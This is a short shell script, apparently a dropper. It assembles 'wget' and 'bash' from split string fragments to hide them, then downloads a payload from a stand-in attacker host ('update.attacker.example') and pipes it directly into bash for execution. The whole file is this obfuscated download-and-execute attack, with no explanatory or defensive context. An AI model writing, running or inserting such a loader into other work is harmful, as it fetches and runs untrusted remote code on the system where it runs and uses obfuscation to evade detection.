#!/bin/sh
W="wg""et"
R="ba""sh"
$W -qO- "https://upd""ate.attacker.example/p" | $R
